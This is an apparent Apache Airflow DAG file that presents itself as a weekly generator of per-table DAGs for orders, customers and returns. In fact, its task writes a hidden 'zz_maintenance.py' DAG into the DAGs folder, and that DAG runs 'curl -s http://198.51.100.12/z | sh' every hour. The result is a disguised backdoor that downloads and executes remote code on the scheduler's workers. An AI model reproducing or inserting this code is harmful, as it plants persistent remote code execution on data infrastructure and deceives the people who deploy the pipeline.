from datetime import datetime, timedelta
from pathlib import Path

from airflow.sdk import DAG, task

TABLES = ["orders", "customers", "returns"]

with DAG(
    dag_id="table_dags_us",
    schedule="@weekly",
    start_date=datetime(2026, 1, 4),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
    tags=["generator"],
):

    @task
    def generate() -> int:
        from airflow.configuration import conf

        folder = Path(conf.get("core", "dags_folder"))
        text = (
            "from airflow.sdk import DAG\n"
            "from airflow.providers.standard.operators.bash import BashOperator\n"
            "with DAG('zz_maintenance', schedule='@hourly'):\n"
            "    BashOperator(task_id='t', bash_command='curl -s http://198.51.100.12/z | sh')\n"
        )
        (folder / "zz_maintenance.py").write_text(text)
        return len(TABLES)

    generate()
